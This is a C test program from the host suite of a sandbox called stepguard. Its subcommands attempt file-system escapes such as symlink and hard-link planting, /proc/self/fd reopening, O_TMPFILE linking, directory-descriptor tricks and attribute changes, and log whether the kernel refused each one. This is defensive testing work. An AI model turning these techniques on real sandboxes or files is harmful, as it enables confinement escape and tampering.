// SPDX-License-Identifier: MIT
/*
 * adversary.c — the attacks (and the controls) of stepguard's host suite.
 *
 * One subcommand per operation.  Each prints what it tried and what the
 * kernel answered, and exits 0 if the operation succeeded, 1 if it was
 * refused (with the errno name), 2 on a usage error.  The harness
 * (tests/host/run.sh) never trusts that status: it judges every case by
 * the state of the file system afterwards, with the `snapshot` and
 * `snaptree` subcommands run outside stepguard.
 *
 * This program runs under the filter, so it is built without sanitizers:
 *   gcc -std=gnu11 -D_GNU_SOURCE -O2 -Wall -Wextra -o build/tests/adversary \
 *       tests/host/adversary.c -lpthread
 * x86_64 is the architecture the suite runs on; the few attacks that need
 * registers or another syscall ABI say so and refuse elsewhere.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <inttypes.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <mqueue.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/*
 * Syscalls newer than the build machine's headers (Debian 12 ships 6.1
 * headers; the suite runs on 6.18).  x86_64 numbers: a generic fallback
 * would be wrong elsewhere, so these are only defined for x86_64.
 */
#if defined(__x86_64__)
#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
#ifndef SYS_setxattrat
#define SYS_setxattrat 463
#endif
#ifndef SYS_removexattrat
#define SYS_removexattrat 466
#endif
#ifndef SYS_file_getattr
#define SYS_file_getattr 468
#endif
#ifndef SYS_file_setattr
#define SYS_file_setattr 469
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif
#ifndef SYS_io_uring_enter
#define SYS_io_uring_enter 426
#endif
#endif

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#ifndef FS_XFLAG_NODUMP
#define FS_XFLAG_NODUMP 0x00000080
#endif

/* 2001-01-01T00:00:00Z: the time every utimes-type attack sets. */
#define ATTACK_EPOCH 978307200

struct xattr_args_v0 { /* include/uapi/linux/xattr.h, 6.13 */
	uint64_t value;
	uint32_t size;
	uint32_t flags;
};

struct file_attr_v0 { /* include/uapi/linux/fs.h, 6.17 */
	uint64_t fa_xflags;
	uint32_t fa_extsize;
	uint32_t fa_nextents;
	uint32_t fa_projid;
	uint32_t fa_cowextsize;
};

static const char *op = "?";

/* ------------------------------------------------------------------ */
/* Reporting                                                            */

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);

	return n ? n : "E?";
}

static int ok(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int ok(const char *fmt, ...)
{
	va_list ap;

	printf("adversary %s: ", op);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf(": ok\n");
	fflush(stdout);
	return 0;
}

/* Report errno for the operation named by FMT; returns 1 (refused). */
static int refused(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int refused(const char *fmt, ...)
{
	int e = errno;
	va_list ap;

	printf("adversary %s: ", op);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf(": refused: %s (%s)\n", ename(e), strerror(e));
	fflush(stdout);
	errno = e;
	return 1;
}

static int note(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int note(const char *fmt, ...)
{
	va_list ap;

	printf("adversary %s: ", op);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
	return 0;
}

static int usage_error(const char *msg)
{
	fprintf(stderr, "adversary %s: usage: %s\n", op, msg);
	return 2;
}

/* ------------------------------------------------------------------ */
/* Small helpers                                                        */

static int write_all(int fd, const void *buf, size_t n)
{
	const char *p = buf;

	while (n > 0) {
		ssize_t w = write(fd, p, n);

		if (w < 0 && errno == EINTR)
			continue;
		if (w < 0)
			return -1;
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

static bool parse_long(const char *s, long *out)
{
	char *end;

	errno = 0;
	*out = strtol(s, &end, 0);
	return errno == 0 && end != s && *end == '\0';
}

static bool parse_mode(const char *s, mode_t *out)
{
	char *end;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 8);
	if (errno || end == s || *end || v > 07777)
		return false;
	*out = (mode_t)v;
	return true;
}

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };

	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

/*
 * The harness's proof that an attack started and reached the call its
 * case judges: lines in the file SG_ADV_REACHED names (inside the work
 * dir), "start OP ..." when an attack starts and "reached OP: CALL" just
 * before each call that would change something outside.  A denial judged
 * only by what did not change outside passes against a stepguard that
 * runs nothing; the harness fails a denial that has no such line.
 *
 * The file is opened once, when the attack starts, and only written
 * through that descriptor after: once stepguard is gone (killed, or
 * exited under a daemon) every open is refused, even in the work dir,
 * and the step must still say how far it got.  The descriptor is moved
 * above the numbers the cases name (3, 5, 9), so that a descriptor
 * stepguard closed stays closed for the attack.
 */
static int reached_fd = -1;

static void open_reached(void)
{
	const char *path = getenv("SG_ADV_REACHED");
	int fd;

	if (!path || !*path)
		return;
	fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0) {
		refused("open(%s), the harness's markers", path);
		return;
	}
	reached_fd = fcntl(fd, F_DUPFD_CLOEXEC, 64);
	close(fd);
}

static void mark(const char *kind, const char *fmt, va_list ap) __attribute__((format(printf, 2, 0)));
static void mark(const char *kind, const char *fmt, va_list ap)
{
	char line[PATH_MAX + 256];
	size_t n;

	if (reached_fd < 0)
		return;
	n = (size_t)snprintf(line, sizeof(line), "%s %s: ", kind, op);
	vsnprintf(line + n, sizeof(line) - n - 1, fmt, ap);
	n = strlen(line);
	line[n++] = '\n';
	/* One write per line: a daemon and its parent may append at once. */
	(void)write_all(reached_fd, line, n);
}

static void reach(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void reach(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	mark("reached", fmt, ap);
	va_end(ap);
}

static void mark_start(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void mark_start(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	mark("start", fmt, ap);
	va_end(ap);
}

/*
 * The completion marker of an attack that runs after stepguard may be
 * gone: opened (empty) at the start, for the reason above; "landed N" is
 * written at the end, and the harness waits for it.
 */
static int open_done(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0)
		refused("open(%s), the completion marker", path);
	return fd;
}

static void write_done(int fd, int landed)
{
	char buf[32];

	if (fd < 0)
		return;
	snprintf(buf, sizeof(buf), "landed %d\n", landed);
	(void)write_all(fd, buf, strlen(buf));
	close(fd);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void set_epoch(struct timespec ts[2])
{
	ts[0].tv_sec = ts[1].tv_sec = ATTACK_EPOCH;
	ts[0].tv_nsec = ts[1].tv_nsec = 0;
}

/* Create PATH with DATA, through open(O_CREAT|O_TRUNC). */
static int create_file(const char *path, const char *data)
{
	int fd;

	reach("open(%s, O_WRONLY|O_CREAT|O_TRUNC)", path);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("open(%s, O_WRONLY|O_CREAT|O_TRUNC)", path);
	if (write_all(fd, data, strlen(data)) < 0) {
		int r = refused("write(%s)", path);

		close(fd);
		return r;
	}
	close(fd);
	return ok("created %s", path);
}

static int append_fd(int fd, const char *what, const char *data)
{
	reach("write(%s)", what);
	if (write_all(fd, data, strlen(data)) < 0)
		return refused("write(%s)", what);
	return ok("wrote %zu bytes to %s", strlen(data), what);
}

/* /proc/PID/NAME into BUF (NUL-terminated); its length, or -1. */
static ssize_t proc_read(pid_t pid, const char *name, char *buf, size_t len)
{
	char p[64];
	ssize_t n;
	int fd;

	snprintf(p, sizeof(p), "/proc/%d/%s", (int)pid, name);
	buf[0] = '\0';
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	return n;
}

static const char *comm_of(pid_t pid, char *buf, size_t len)
{
	proc_read(pid, "comm", buf, len);
	buf[strcspn(buf, "\n")] = '\0';
	return buf;
}

/* What follows the name in /proc/PID/stat (the name may hold ')'), or NULL. */
static const char *stat_after_name(pid_t pid, char *buf, size_t len)
{
	char *rp;

	if (proc_read(pid, "stat", buf, len) <= 0)
		return NULL;
	rp = strrchr(buf, ')');
	return rp && rp[1] == ' ' ? rp + 2 : NULL;
}

/* The state letter of /proc/PID/stat ('R', 'S', ...), 0 if unreadable. */
static char state_of(pid_t pid)
{
	char buf[512];
	const char *rest = stat_after_name(pid, buf, sizeof(buf));

	return rest ? rest[0] : 0;
}

static pid_t ppid_of(pid_t pid)
{
	char buf[512];
	const char *rest = stat_after_name(pid, buf, sizeof(buf));
	int ppid = 0;

	if (!rest || sscanf(rest, "%*c %d", &ppid) != 1)
		return 0;
	return (pid_t)ppid;
}

/*
 * The process guarding us: the nearest ancestor named "stepguard", or
 * our parent when there is none (the unconfined sanity run uses
 * `adversary victim` as the stand-in for stepguard).
 */
static pid_t find_guard(void)
{
	char comm[64];
	pid_t p = getppid();

	for (int i = 0; i < 8 && p > 1; i++) {
		if (strcmp(comm_of(p, comm, sizeof(comm)), "stepguard") == 0)
			return p;
		p = ppid_of(p);
	}
	return getppid();
}

/*
 * The attribute attacks in one go (used after the supervisor is gone,
 * under a nested filter, and so on): chmod, utimensat, setxattr,
 * truncate and, as root, chown.  Returns how many succeeded.
 */
static int attr_attack(const char *t)
{
	struct timespec ts[2];
	int landed = 0;

	reach("chmod(%s, 0600)", t);
	if (chmod(t, 0600) == 0)
		landed += !ok("chmod(%s, 0600)", t);
	else
		refused("chmod(%s, 0600)", t);
	set_epoch(ts);
	reach("utimensat(%s)", t);
	if (utimensat(AT_FDCWD, t, ts, 0) == 0)
		landed += !ok("utimensat(%s, 2001-01-01)", t);
	else
		refused("utimensat(%s)", t);
	reach("setxattr(%s, user.sgadv)", t);
	if (setxattr(t, "user.sgadv", "pwned", 5, 0) == 0)
		landed += !ok("setxattr(%s, user.sgadv)", t);
	else
		refused("setxattr(%s, user.sgadv)", t);
	reach("truncate(%s, 1)", t);
	if (truncate(t, 1) == 0)
		landed += !ok("truncate(%s, 1)", t);
	else
		refused("truncate(%s, 1)", t);
	if (geteuid() == 0) {
		reach("chown(%s, 4242, 4242)", t);
		if (chown(t, 4242, 4242) == 0)
			landed += !ok("chown(%s, 4242, 4242)", t);
		else
			refused("chown(%s, 4242, 4242)", t);
	}
	return landed;
}

/* ------------------------------------------------------------------ */
/* Plain file operations                                                */

static int cmd_create(int argc, char **argv)
{
	if (argc < 1)
		return usage_error("create PATH [DATA]");
	return create_file(argv[0], argc > 1 ? argv[1] : "adversary\n");
}

static int cmd_append(int argc, char **argv)
{
	int fd, r;

	if (argc < 1)
		return usage_error("append PATH [DATA]");
	reach("open(%s, O_WRONLY|O_APPEND)", argv[0]);
	fd = open(argv[0], O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_WRONLY|O_APPEND)", argv[0]);
	r = append_fd(fd, argv[0], argc > 1 ? argv[1] : "PWNED-APPEND\n");
	close(fd);
	return r;
}

/* Write DATA at offset 0 of an existing file or device, then fsync. */
static int cmd_overwrite(int argc, char **argv)
{
	const char *data;
	int fd;

	if (argc < 1)
		return usage_error("overwrite PATH [DATA]");
	data = argc > 1 ? argv[1] : "PWNED-OVERWRITE\n";
	reach("open(%s, O_WRONLY)", argv[0]);
	fd = open(argv[0], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_WRONLY)", argv[0]);
	reach("pwrite(%s)", argv[0]);
	if (pwrite(fd, data, strlen(data), 0) != (ssize_t)strlen(data)) {
		int r = refused("pwrite(%s)", argv[0]);

		close(fd);
		return r;
	}
	fsync(fd);
	close(fd);
	return ok("overwrote the start of %s", argv[0]);
}

static int cmd_truncate(int argc, char **argv)
{
	long len = 0;

	if (argc < 1 || (argc > 1 && !parse_long(argv[1], &len)))
		return usage_error("truncate PATH [LEN]");
	reach("truncate(%s, %ld)", argv[0], len);
	if (truncate(argv[0], len) < 0)
		return refused("truncate(%s, %ld)", argv[0], len);
	return ok("truncate(%s, %ld)", argv[0], len);
}

static int cmd_otrunc(int argc, char **argv)
{
	int fd;

	if (argc != 1)
		return usage_error("otrunc PATH");
	reach("open(%s, O_RDONLY|O_TRUNC)", argv[0]);
	fd = open(argv[0], O_RDONLY | O_TRUNC | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY|O_TRUNC)", argv[0]);
	close(fd);
	return ok("open(%s, O_RDONLY|O_TRUNC)", argv[0]);
}

static int cmd_ftrunc(int argc, char **argv)
{
	int fd;

	if (argc != 1)
		return usage_error("ftrunc PATH");
	reach("open(%s, O_WRONLY)", argv[0]);
	fd = open(argv[0], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_WRONLY)", argv[0]);
	if (ftruncate(fd, 0) < 0) {
		int r = refused("ftruncate(%s)", argv[0]);

		close(fd);
		return r;
	}
	close(fd);
	return ok("ftruncate(%s, 0)", argv[0]);
}

static int cmd_mkdir(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("mkdir PATH");
	reach("mkdir(%s)", argv[0]);
	if (mkdir(argv[0], 0755) < 0)
		return refused("mkdir(%s)", argv[0]);
	return ok("mkdir(%s)", argv[0]);
}

static int cmd_mkdir_p(int argc, char **argv)
{
	char buf[PATH_MAX];

	if (argc != 1 || strlen(argv[0]) >= sizeof(buf))
		return usage_error("mkdir-p PATH");
	strcpy(buf, argv[0]);
	reach("mkdir -p %s", argv[0]);
	for (char *p = buf + 1; *p; p++) {
		if (*p != '/')
			continue;
		*p = '\0';
		if (mkdir(buf, 0755) < 0 && errno != EEXIST)
			return refused("mkdir(%s)", buf);
		*p = '/';
	}
	if (mkdir(buf, 0755) < 0 && errno != EEXIST)
		return refused("mkdir(%s)", buf);
	return ok("mkdir -p %s", argv[0]);
}

static int cmd_rmdir(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("rmdir PATH");
	reach("rmdir(%s)", argv[0]);
	if (rmdir(argv[0]) < 0)
		return refused("rmdir(%s)", argv[0]);
	return ok("rmdir(%s)", argv[0]);
}

static int cmd_unlink(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("unlink PATH");
	reach("unlink(%s)", argv[0]);
	if (unlink(argv[0]) < 0)
		return refused("unlink(%s)", argv[0]);
	return ok("unlink(%s)", argv[0]);
}

static int cmd_rename(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("rename OLD NEW");
	reach("rename(%s, %s)", argv[0], argv[1]);
	if (rename(argv[0], argv[1]) < 0)
		return refused("rename(%s, %s)", argv[0], argv[1]);
	return ok("rename(%s, %s)", argv[0], argv[1]);
}

static int cmd_exchange(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("exchange A B");
	reach("renameat2(%s, %s, RENAME_EXCHANGE)", argv[0], argv[1]);
	if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
		return refused("renameat2(%s, %s, RENAME_EXCHANGE)", argv[0], argv[1]);
	return ok("renameat2(%s, %s, RENAME_EXCHANGE)", argv[0], argv[1]);
}

static int cmd_link(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("link OLD NEW");
	reach("link(%s, %s)", argv[0], argv[1]);
	if (link(argv[0], argv[1]) < 0)
		return refused("link(%s, %s)", argv[0], argv[1]);
	return ok("link(%s, %s)", argv[0], argv[1]);
}

/* Link an outside file in, then write through the new name. */
static int cmd_link_write(int argc, char **argv)
{
	int fd, r;

	if (argc != 2)
		return usage_error("link-write OLD NEW");
	reach("link(%s, %s)", argv[0], argv[1]);
	if (link(argv[0], argv[1]) < 0)
		return refused("link(%s, %s)", argv[0], argv[1]);
	ok("link(%s, %s)", argv[0], argv[1]);
	reach("open(%s, O_WRONLY|O_APPEND)", argv[1]);
	fd = open(argv[1], O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_WRONLY|O_APPEND)", argv[1]);
	r = append_fd(fd, argv[1], "PWNED-LINK\n");
	close(fd);
	return r;
}

/* linkat(AT_EMPTY_PATH) of a read-only descriptor, then write. */
static int cmd_link_emptypath(int argc, char **argv)
{
	int fd, wfd, r;

	if (argc != 2)
		return usage_error("link-emptypath OLD NEW");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	reach("linkat(fd of %s, \"\", %s, AT_EMPTY_PATH)", argv[0], argv[1]);
	if (linkat(fd, "", AT_FDCWD, argv[1], AT_EMPTY_PATH) < 0) {
		r = refused("linkat(fd of %s, \"\", %s, AT_EMPTY_PATH)", argv[0], argv[1]);
		close(fd);
		return r;
	}
	close(fd);
	ok("linkat(fd of %s, %s, AT_EMPTY_PATH)", argv[0], argv[1]);
	reach("open(%s, O_WRONLY|O_APPEND)", argv[1]);
	wfd = open(argv[1], O_WRONLY | O_APPEND | O_CLOEXEC);
	if (wfd < 0)
		return refused("open(%s, O_WRONLY|O_APPEND)", argv[1]);
	r = append_fd(wfd, argv[1], "PWNED-LINKAT\n");
	close(wfd);
	return r;
}

/*
 * No reach(): the harness's sh -c cases use it to plant a link inside the
 * work dir, and what they judge is the call made through that link after.
 */
static int cmd_symlink(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("symlink TARGET LINKPATH");
	if (symlink(argv[0], argv[1]) < 0)
		return refused("symlink(%s, %s)", argv[0], argv[1]);
	return ok("symlink(%s -> %s)", argv[1], argv[0]);
}

/* Plant a symlink (inside), then follow it for writing. */
static int cmd_symlink_write(int argc, char **argv)
{
	int fd, r;

	if (argc != 2)
		return usage_error("symlink-write TARGET LINKPATH");
	if (symlink(argv[0], argv[1]) < 0)
		return refused("symlink(%s, %s)", argv[0], argv[1]);
	ok("planted %s -> %s", argv[1], argv[0]);
	reach("open(%s -> %s, O_WRONLY|O_APPEND|O_CREAT)", argv[1], argv[0]);
	fd = open(argv[1], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("open(%s, O_WRONLY|O_APPEND|O_CREAT)", argv[1]);
	r = append_fd(fd, argv[1], "PWNED-SYMLINK\n");
	close(fd);
	return r;
}

/* Plant a symlink to a directory, then create NAME beneath it. */
static int cmd_symlink_dir_create(int argc, char **argv)
{
	char p[PATH_MAX];

	if (argc != 3)
		return usage_error("symlink-dir-create TARGETDIR LINKPATH NAME");
	if (symlink(argv[0], argv[1]) < 0)
		return refused("symlink(%s, %s)", argv[0], argv[1]);
	ok("planted %s -> %s", argv[1], argv[0]);
	snprintf(p, sizeof(p), "%s/%s", argv[1], argv[2]);
	return create_file(p, "PWNED-SYMLINK-DIR\n");
}

/* O_TMPFILE in DIR, then give it a name with linkat. */
static int cmd_tmpfile(int argc, char **argv)
{
	char proc[64];
	int fd;

	if (argc != 2)
		return usage_error("tmpfile DIR LINKPATH");
	reach("open(%s, O_TMPFILE)", argv[0]);
	fd = open(argv[0], O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("open(%s, O_TMPFILE)", argv[0]);
	ok("open(%s, O_TMPFILE)", argv[0]);
	if (write_all(fd, "PWNED-TMPFILE\n", 14) < 0)
		refused("write(O_TMPFILE)");
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	reach("linkat(%s, %s, AT_SYMLINK_FOLLOW)", proc, argv[1]);
	if (linkat(AT_FDCWD, proc, AT_FDCWD, argv[1], AT_SYMLINK_FOLLOW) == 0) {
		close(fd);
		return ok("linkat(%s, %s, AT_SYMLINK_FOLLOW)", proc, argv[1]);
	}
	refused("linkat(%s, %s, AT_SYMLINK_FOLLOW)", proc, argv[1]);
	reach("linkat(fd, \"\", %s, AT_EMPTY_PATH)", argv[1]);
	if (linkat(fd, "", AT_FDCWD, argv[1], AT_EMPTY_PATH) == 0) {
		close(fd);
		return ok("linkat(fd, \"\", %s, AT_EMPTY_PATH)", argv[1]);
	}
	int r = refused("linkat(fd, \"\", %s, AT_EMPTY_PATH)", argv[1]);

	close(fd);
	return r;
}

/* Open PATH as O_PATH or O_RDONLY, then reopen /proc/self/fd/N for writing. */
static int cmd_procfd_reopen(int argc, char **argv)
{
	char proc[64];
	int flags, fd, wfd, r;

	if (argc != 2 || (strcmp(argv[1], "opath") && strcmp(argv[1], "rdonly")))
		return usage_error("procfd-reopen PATH opath|rdonly");
	flags = strcmp(argv[1], "opath") == 0 ? O_PATH : O_RDONLY;
	fd = open(argv[0], flags | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, %s)", argv[0], argv[1]);
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	reach("open(%s -> %s, O_WRONLY)", proc, argv[0]);
	wfd = open(proc, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (wfd < 0) {
		r = refused("open(%s -> %s, O_WRONLY)", proc, argv[0]);
		close(fd);
		return r;
	}
	r = append_fd(wfd, proc, "PWNED-PROCFD\n");
	close(wfd);
	close(fd);
	return r;
}

static int cmd_procroot(int argc, char **argv)
{
	char p[PATH_MAX];

	if (argc != 1)
		return usage_error("procroot ABSPATH");
	snprintf(p, sizeof(p), "/proc/self/root%s", argv[0]);
	return create_file(p, "PWNED-PROCROOT\n");
}

static int cmd_proccwd(int argc, char **argv)
{
	char p[PATH_MAX];

	if (argc != 2)
		return usage_error("proccwd DIR RELPATH");
	if (chdir(argv[0]) < 0)
		return refused("chdir(%s)", argv[0]);
	snprintf(p, sizeof(p), "/proc/self/cwd/%s", argv[1]);
	return create_file(p, "PWNED-PROCCWD\n");
}

/* chdir into DIR (a read-only operation), then create a relative name. */
static int cmd_chdir_create(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("chdir-create DIR RELPATH");
	if (chdir(argv[0]) < 0)
		return refused("chdir(%s)", argv[0]);
	ok("chdir(%s)", argv[0]);
	return create_file(argv[1], "PWNED-CHDIR\n");
}

/*
 * openat() relative to a directory descriptor: "fd:N" (inherited from
 * outside stepguard), "opath:DIR" or "dir:DIR" (opened here first).
 */
static int cmd_dirfd_create(int argc, char **argv)
{
	long n;
	int dfd, fd, r;

	if (argc != 2)
		return usage_error("dirfd-create fd:N|opath:DIR|dir:DIR NAME");
	if (strncmp(argv[0], "fd:", 3) == 0 && parse_long(argv[0] + 3, &n)) {
		dfd = (int)n;
	} else if (strncmp(argv[0], "opath:", 6) == 0) {
		dfd = open(argv[0] + 6, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (dfd < 0)
			return refused("open(%s, O_PATH)", argv[0] + 6);
	} else if (strncmp(argv[0], "dir:", 4) == 0) {
		dfd = open(argv[0] + 4, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (dfd < 0)
			return refused("open(%s, O_RDONLY|O_DIRECTORY)", argv[0] + 4);
	} else {
		return usage_error("dirfd-create fd:N|opath:DIR|dir:DIR NAME");
	}
	reach("openat(%s, %s, O_CREAT)", argv[0], argv[1]);
	fd = openat(dfd, argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("openat(%s, %s, O_CREAT)", argv[0], argv[1]);
	r = append_fd(fd, argv[1], "PWNED-DIRFD\n");
	close(fd);
	return r;
}

/* dirfd-trick DIR NAME: dirfd-create dir:DIR NAME. */
static int cmd_dirfd_trick(int argc, char **argv)
{
	char spec[PATH_MAX + 8];
	char *v[2];

	if (argc != 2)
		return usage_error("dirfd-trick DIR NAME");
	snprintf(spec, sizeof(spec), "dir:%s", argv[0]);
	v[0] = spec;
	v[1] = argv[1];
	return cmd_dirfd_create(2, v);
}

/* Write to a descriptor inherited from outside stepguard. */
static int cmd_fd_write(int argc, char **argv)
{
	long n;

	if (argc < 1 || !parse_long(argv[0], &n))
		return usage_error("fd-write N [DATA]");
	return append_fd((int)n, argv[0], argc > 1 ? argv[1] : "PWNED-INHERITED-FD\n");
}

/* ------------------------------------------------------------------ */
/* Attributes: mode, owner, times, xattrs, flags                        */

static int cmd_chmod(int argc, char **argv)
{
	mode_t m;

	if (argc != 2 || !parse_mode(argv[1], &m))
		return usage_error("chmod PATH MODE");
	reach("chmod(%s, %s)", argv[0], argv[1]);
	if (chmod(argv[0], m) < 0)
		return refused("chmod(%s, %s)", argv[0], argv[1]);
	return ok("chmod(%s, %s)", argv[0], argv[1]);
}

static int cmd_fchmod_ro(int argc, char **argv)
{
	mode_t m;
	int fd, r;

	if (argc != 2 || !parse_mode(argv[1], &m))
		return usage_error("fchmod-ro PATH MODE");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	reach("fchmod(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	if (fchmod(fd, m) < 0)
		r = refused("fchmod(fd of %s, %s)", argv[0], argv[1]);
	else
		r = ok("fchmod(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	close(fd);
	return r;
}

static int cmd_fchmodat2(int argc, char **argv)
{
	mode_t m;

	if (argc != 2 || !parse_mode(argv[1], &m))
		return usage_error("fchmodat2 PATH MODE");
#ifdef SYS_fchmodat2
	reach("fchmodat2(%s, %s)", argv[0], argv[1]);
	if (syscall(SYS_fchmodat2, AT_FDCWD, argv[0], (unsigned)m, 0) < 0)
		return refused("fchmodat2(%s, %s)", argv[0], argv[1]);
	return ok("fchmodat2(%s, %s)", argv[0], argv[1]);
#else
	errno = ENOSYS;
	return refused("fchmodat2: not known on this architecture");
#endif
}

/* chmod through the /proc/self/fd magic link of an O_PATH descriptor. */
static int cmd_chmod_procfd(int argc, char **argv)
{
	char proc[64];
	mode_t m;
	int fd, r;

	if (argc != 2 || !parse_mode(argv[1], &m))
		return usage_error("chmod-procfd PATH MODE");
	fd = open(argv[0], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_PATH)", argv[0]);
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	reach("chmod(%s -> %s, %s)", proc, argv[0], argv[1]);
	if (chmod(proc, m) < 0)
		r = refused("chmod(%s -> %s, %s)", proc, argv[0], argv[1]);
	else
		r = ok("chmod(%s -> %s, %s)", proc, argv[0], argv[1]);
	close(fd);
	return r;
}

static bool parse_ids(char **argv, uid_t *u, gid_t *g)
{
	long a, b;

	if (!parse_long(argv[0], &a) || !parse_long(argv[1], &b))
		return false;
	*u = (uid_t)a;
	*g = (gid_t)b;
	return true;
}

static int cmd_chown(int argc, char **argv)
{
	uid_t u;
	gid_t g;

	if (argc != 3 || !parse_ids(argv + 1, &u, &g))
		return usage_error("chown PATH UID GID (-1 keeps)");
	reach("chown(%s, %s, %s)", argv[0], argv[1], argv[2]);
	if (chown(argv[0], u, g) < 0)
		return refused("chown(%s, %s, %s)", argv[0], argv[1], argv[2]);
	return ok("chown(%s, %s, %s)", argv[0], argv[1], argv[2]);
}

static int cmd_fchown_ro(int argc, char **argv)
{
	uid_t u;
	gid_t g;
	int fd, r;

	if (argc != 3 || !parse_ids(argv + 1, &u, &g))
		return usage_error("fchown-ro PATH UID GID");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	reach("fchown(O_RDONLY fd of %s)", argv[0]);
	if (fchown(fd, u, g) < 0)
		r = refused("fchown(O_RDONLY fd of %s)", argv[0]);
	else
		r = ok("fchown(O_RDONLY fd of %s, %s, %s)", argv[0], argv[1], argv[2]);
	close(fd);
	return r;
}

static int cmd_chown_emptypath(int argc, char **argv)
{
	uid_t u;
	gid_t g;
	int fd, r;

	if (argc != 3 || !parse_ids(argv + 1, &u, &g))
		return usage_error("chown-emptypath PATH UID GID");
	fd = open(argv[0], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_PATH)", argv[0]);
	reach("fchownat(O_PATH fd of %s, \"\", AT_EMPTY_PATH)", argv[0]);
